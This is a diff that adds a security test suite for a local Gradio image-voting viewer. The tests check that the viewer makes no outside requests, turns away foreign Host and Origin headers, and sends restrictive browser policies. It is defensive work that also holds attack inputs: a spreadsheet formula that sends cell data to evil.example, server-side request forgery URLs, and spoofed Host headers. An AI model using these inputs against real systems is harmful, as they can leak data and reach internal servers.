@@ -1,0 +1,244 @@
+"""The viewer's server: it answers nobody's page but its own, and asks nobody anything."""
+
+from __future__ import annotations
+
+import http.client
+import json
+import re
+import socket
+from collections.abc import Iterator, Mapping, Sequence
+from contextlib import closing
+from pathlib import Path
+from typing import Any, NamedTuple
+
+import gradio as gr
+import pytest
+from PIL import Image
+from starlette.responses import PlainTextResponse
+from starlette.testclient import TestClient
+from starlette.websockets import WebSocketDisconnect
+
+from app import frame
+from app.ballots import FILE, Votes
+from app.catalog import Catalog
+from app.guard import Guard
+from app.scored import ScoredImage, ScoredPrompt
+from tests.app.scored_images import scores_of, write
+from tests.app.test_app_catalog import make_run
+
+LOCAL = "127.0.0.1"
+LABELS = ("lora", "bilora")
+EVIL = "http://evil.example"
+
+
+class Served(NamedTuple):
+    """A viewer in this process: its port and root, and whom the process tried to reach."""
+
+    port: int
+    root: Path
+    asked: list[Any]
+
+    def ask(
+        self, path: str, method: str = "GET", body: Any = None, **headers: str
+    ) -> http.client.HTTPResponse:
+        """The answer to a request whose path and headers are sent as they are."""
+        connection = http.client.HTTPConnection(LOCAL, self.port, timeout=30)
+        connection.request(
+            method,
+            path,
+            None if body is None else json.dumps(body),
+            {"Content-Type": "application/json", **headers},
+        )
+        return connection.getresponse()
+
+    def send(self, events: Mapping[int, Sequence[Any]], session: str, data: Any = None) -> str:
+        """What the server answers to events, each with its values, all of one visitor."""
+        for event, values in events.items():
+            body = {"data": values, "fn_index": event, "event_data": data, "session_hash": session}
+            assert self.ask("/gradio_api/queue/join", "POST", body).status in (200, 422)
+        text = ""
+        for line in self.ask(f"/gradio_api/queue/data?session_hash={session}"):
+            text += line.decode()
+            if "close_stream" in text:
+                break
+        assert text.count("process_completed") == len(events)
+        return text
+
+
+def free_port() -> int:
+    with closing(socket.create_server((LOCAL, 0))) as listener:
+        return listener.getsockname()[1]
+
+
+@pytest.fixture(scope="module")
+def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
+    """A viewer of one run, in a process that can reach nobody but it."""
+    root = tmp_path_factory.mktemp("served")
+    make_run(root / "lora")
+    images = {(one, "icon", 0): ScoredImage(f"{one}.png", {}) for one in LABELS}
+    write(scores_of(LABELS, [ScoredPrompt("icon")], images, (0,)), root / "scores")
+    for one in LABELS:
+        Image.new("RGB", (8, 8)).save(root / "scores" / f"{one}.png")
+    port, asked, pages = free_port(), [], []
+    connect, look_up = socket.socket.connect, socket.getaddrinfo
+
+    def connected(self: socket.socket, address: Any) -> None:
+        if address != (LOCAL, port):
+            asked.append(address)
+            raise ConnectionRefusedError(address)
+        connect(self, address)
+
+    def looked_up(host: Any, *args: Any, **more: Any) -> Any:
+        if host not in (LOCAL, LOCAL.encode(), None):
+            asked.append(host)
+            raise socket.gaierror(host)
+        return look_up(host, *args, **more)
+
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(socket.socket, "connect", connected)
+        patch.setattr(socket.socket, "connect_ex", connected)
+        patch.setattr(socket, "getaddrinfo", looked_up)
+        patch.setattr(gr.Blocks, "block_thread", lambda page: pages.append(page))
+        frame.launch(Catalog(root), host=LOCAL, port=port, public=False, device=None)
+        assert asked == []
+        yield Served(port, root, asked)
+        pages[0].close(verbose=False)
+
+
+def addresses(port: int) -> list[str]:
+    """Addresses of a public server, by name and by number, and of this machine."""
+    return [
+        "http://example.com/a.png",
+        "https://example.com/a.png",
+        "HTTP://example.com/a.png",
+        "//example.com/a.png",
+        "ftp://example.com/a.png",
+        "http://93.184.215.14/a.png",
+        f"http://{LOCAL}:{port}/a.png",
+        "http://[::1]/a.png",
+    ]
+
+
+def test_no_route_fetches_an_address(served: Served) -> None:
+    routes = ("/gradio_api/file=", "/gradio_api/file/", "/gradio_api//file/", "/file=", "/file/")
+    routes += ("/gradio_api/proxy=", "/proxy=", "/gradio_api/stream/", "/static/", "/assets/")
+    routes += ("/gradio_api/custom_component/", "/?__theme=dark&url=")
+    for route in routes:
+        for address in addresses(free_port()):
+            for method in ("GET", "HEAD"):
+                answer = served.ask(route + address, method)
+                assert route.startswith("/?") or 400 <= answer.status < 500, route + address
+    posted = ("/gradio_api/upload", "/upload", "/gradio_api/component_server", "/gradio_api/call/x")
+    posted += ("/gradio_api/run/predict", "/gradio_api/api/predict", "/gradio_api/vibe-edit/")
+    posted += ("/gradio_api/process_recording", "/gradio_api/run-history/connect", "/login")
+    for path in posted:
+        assert served.ask(path, "POST", {"data": [], "fn_index": 0}).status == 403, path
+    for path in ("/monitoring", "/gradio_api/deep_link", "/gradio_api/dev/reload", "/openapi.json"):
+        assert served.ask(path).status == 403, path
+    assert served.asked == []
+
+
+def test_no_event_fetches_an_address(served: Served) -> None:
+    config = json.load(served.ask("/config"))
+    events = {one["id"]: len(one["inputs"]) for one in config["dependencies"]}
+    assert len(events) > 20
+    for kind, files in enumerate(zip(*map(files_at, addresses(free_port())), strict=True)):
+        file = {event: files[event % len(files)] for event in events}
+        data = {event: [[file[event]], file[event]] * count for event, count in events.items()}
+        values = {event: data[event][:count] for event, count in events.items()}
+        served.send(values, f"visitor{kind}", files[0])
+    assert served.asked == []
+
+
+def files_at(address: str) -> list[dict[str, Any]]:
+    """The ways in which an event can name a file of another server."""
+    meta = {"_type": "gradio.FileData"}
+    return [
+        {"path": address, "meta": meta},
+        {"path": "a.png", "url": address, "meta": meta},
+        {"path": address, "url": address, "is_stream": True, "meta": meta},
+    ]
+
+
+def test_a_vote_is_of_the_voter_who_began(served: Served) -> None:
+    config = json.load(served.ask("/config"))
+    names = {one["id"]: one["props"].get("elem_id") for one in config["components"]}
+    clicks = {names.get(one["targets"][0][0]): one for one in config["dependencies"]}
+
+    def click(name: str, *values: Any) -> str:
+        return served.send({clicks[name]["id"]: values}, "visitor")
+
+    loads = [one for one in config["dependencies"] if "load" in dict(one["targets"]).values()]
+    served.send({one["id"]: [None] * len(one["inputs"]) for one in loads}, "visitor")
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    for token in ("", "made up"):
+        click("vote-left", token, None, formula)
+    begun = click("vote-start", "scores", "", formula)
+    (token,) = re.findall(r'data-ballot=\\"([0-9a-f]+)', begun)
+    click("vote-left", token, {"voter": formula}, formula)
+    (vote,) = Votes(served.root / FILE).read()
+    assert re.fullmatch("[0-9a-f]{16}", vote.session)
+
+
+@pytest.mark.parametrize(
+    ("started", "host", "origin", "status"),
+    [
+        (LOCAL, "localhost:7860", None, 200),
+        (LOCAL, "LOCALHOST", "http://localhost", 200),
+        (LOCAL, "127.0.0.1:9", "http://127.0.0.1:9", 200),
+        (LOCAL, "[::1]:7860", "http://[::1]:7860", 200),
+        (LOCAL, "evil.example", None, 403),
+        (LOCAL, "evil.example:7860", "http://evil.example:7860", 403),
+        (LOCAL, "localhost.evil.example", None, 403),
+        (LOCAL, "localhost@evil.example", None, 403),
+        (LOCAL, "192.168.0.5:7860", None, 403),
+        (LOCAL, "", None, 403),
+        (LOCAL, "localhost:7860", EVIL, 403),
+        (LOCAL, "localhost:7860", "http://localhost:7861", 403),
+        (LOCAL, "localhost:7860", "http://127.0.0.1:7860", 403),
+        (LOCAL, "localhost:7860", "null", 403),
+        (LOCAL, "localhost:7860", "", 403),
+        ("0.0.0.0", "192.168.0.5:7860", "http://192.168.0.5:7860", 200),
+        ("0.0.0.0", "[fe80::1]:7860", None, 200),
+        ("0.0.0.0", "localhost:7860", None, 200),
+        ("0.0.0.0", f"{socket.gethostname()}:7860", None, 200),
+        ("0.0.0.0", "lab.example:7860", None, 403),
+        ("0.0.0.0", "192.168.0.5:7860", "http://1.2.3.4:7860", 403),
+        ("0.0.0.0", "192.168.0.5:7860", "null", 403),
+        ("lab.example", "lab.example", "https://lab.example", 200),
+        ("lab.example", "Lab.Example:7860", "http://lab.example:7860", 200),
+        ("lab.example", "evil.example", None, 403),
+        ("lab.example", "lab.example:7860", EVIL, 403),
+    ],
+)
+def test_other_web_sites_are_refused(
+    started: str, host: str, origin: str | None, status: int
+) -> None:
+    client = TestClient(Guard(PlainTextResponse("here"), started, public=started != LOCAL))
+    headers = {"Host": host} | ({} if origin is None else {"Origin": origin})
+    for method in ("GET", "OPTIONS", "POST"):
+        answer = client.request(method, "/config", headers=headers)
+        assert answer.status_code == status
+        assert ("frame-ancestors" in answer.headers.get("Content-Security-Policy", "")) == (
+            status == 200
+        )
+    with pytest.raises(WebSocketDisconnect), client.websocket_connect("/", headers=headers):
+        pass
+
+
+def test_no_answer_lets_another_web_site_read_it(served: Served) -> None:
+    own = f"{LOCAL}:{served.port}"
+    for path in ("/", "/config", "/gradio_api/queue/data?session_hash=x", "/gradio_api/info"):
+        for host, origin in ((own, EVIL), ("lab.example:7860", EVIL), (own, "null")):
+            for method in ("GET", "OPTIONS", "POST"):
+                about = {"Access-Control-Request-Method": "POST", "Host": host, "Origin": origin}
+                answer = served.ask(path, method, **about)
+                assert answer.status == 403, (path, host, origin, method)
+                assert not [name for name in answer.headers if "access-control" in name.lower()]
+    assert served.ask("/config", Origin=f"http://{own}").status == 200
+
+
+def test_what_the_browser_is_told_to_refuse(served: Served) -> None:
+    policy = served.ask("/").headers["Content-Security-Policy"]
+    for rule in ("frame-ancestors 'none'", "form-action 'none'", "base-uri 'self'"):
+        assert rule in policy
